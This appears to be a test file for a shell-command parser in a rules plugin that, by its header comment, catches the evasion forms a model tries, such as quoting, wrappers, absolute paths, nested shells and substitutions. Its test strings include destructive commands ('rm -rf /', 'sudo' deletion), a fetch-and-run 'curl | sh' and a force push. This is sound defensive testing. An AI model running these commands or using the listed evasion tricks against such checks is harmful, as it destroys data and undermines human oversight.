// shell.commands: the simple commands a rule sees in a command line, including the bypass forms a
// model tries (quoting, wrappers, absolute paths, nested shells, substitutions).
import { describe, expect, test } from "vitest";
import { splitCommand } from "../src/plugins/rules/functions.js";
import { shellCommands } from "../src/plugins/rules/shell-words.js";

describe("shell.commands", () => {
  test.each([
    ["ls -la && rm -rf /", [["ls", "-la"], ["rm", "-rf", "/"]]],
    ["a || b; c | d & e", [["a"], ["b"], ["c"], ["d"], ["e"]]],
    ["  rm\t-rf    /", [["rm", "-rf", "/"]]],
    ["'rm' \"-rf\" '/'", [["rm", "-rf", "/"]]],
    ['r"m" -r\'f\' /', [["rm", "-rf", "/"]]],
    ["command rm -rf /", [["rm", "-rf", "/"]]],
    ["\\rm -rf /", [["rm", "-rf", "/"]]],
    ["/bin/rm -rf /", [["rm", "-rf", "/"]]],
    ["env X=1 rm -rf /", [["rm", "-rf", "/"]]],
    ["env -i -u HOME X=1 /usr/bin/rm -rf /", [["rm", "-rf", "/"]]],
    ["X=1 Y=2 rm -rf /", [["rm", "-rf", "/"]]],
    ["sudo -u root rm -rf /", [["rm", "-rf", "/"]]],
    ["sh -c 'rm -rf /'", [["rm", "-rf", "/"]]],
    ['bash -lc "cd / && rm -rf *"', [["cd", "/"], ["rm", "-rf", "*"]]],
    ["bash -c \"sh -c 'rm -rf /'\"", [["rm", "-rf", "/"]]],
    ["echo $(rm -rf /)", [["echo", "$(rm -rf /)"], ["rm", "-rf", "/"]]],
    ["echo \"`rm -rf /`\"", [["echo", "`rm -rf /`"], ["rm", "-rf", "/"]]],
    ["find . -name '*.tmp' | xargs -0 rm -f", [["find", ".", "-name", "*.tmp"], ["rm", "-f"]]],
    ["timeout 5 nice -n 10 rm -rf /", [["rm", "-rf", "/"]]],
    ["curl -s https://x.sh | sh", [["curl", "-s", "https://x.sh"], ["sh"]]],
    ["echo hi > /tmp/out 2>&1", [["echo", "hi"]]],
    ["git -C dir push -f origin main # force", [["git", "-C", "dir", "push", "-f", "origin", "main"]]],
  ])("%s", (line, expected) => {
    expect(shellCommands(line)).toEqual(expected);
  });

  test("a line nested deeper than the limit stops unwrapping instead of recursing forever", () => {
    let line = "rm -rf /";
    for (let i = 0; i < 20; i += 1) line = `sh -c ${JSON.stringify(line)}`;
    expect(() => shellCommands(line)).not.toThrow();
  });
});

describe("shell.commands in rules", () => {
  // The CEL list of lists as plain arrays.
  const plain = (list: ReturnType<typeof splitCommand>): unknown[] => [...list].map((argv) => [...(argv as Iterable<unknown>)]);

  test("the rules of one evaluation share one split of the same command, and another command gets its own", () => {
    const first = splitCommand("git push -f origin main && rm -rf /");
    expect(splitCommand("git push -f origin main && rm -rf /")).toBe(first);
    expect(plain(first)).toEqual([["git", "push", "-f", "origin", "main"], ["rm", "-rf", "/"]]);
    expect(plain(splitCommand("ls"))).toEqual([["ls"]]);
    expect(plain(splitCommand("git push -f origin main && rm -rf /"))).toEqual(plain(first));
  });
});
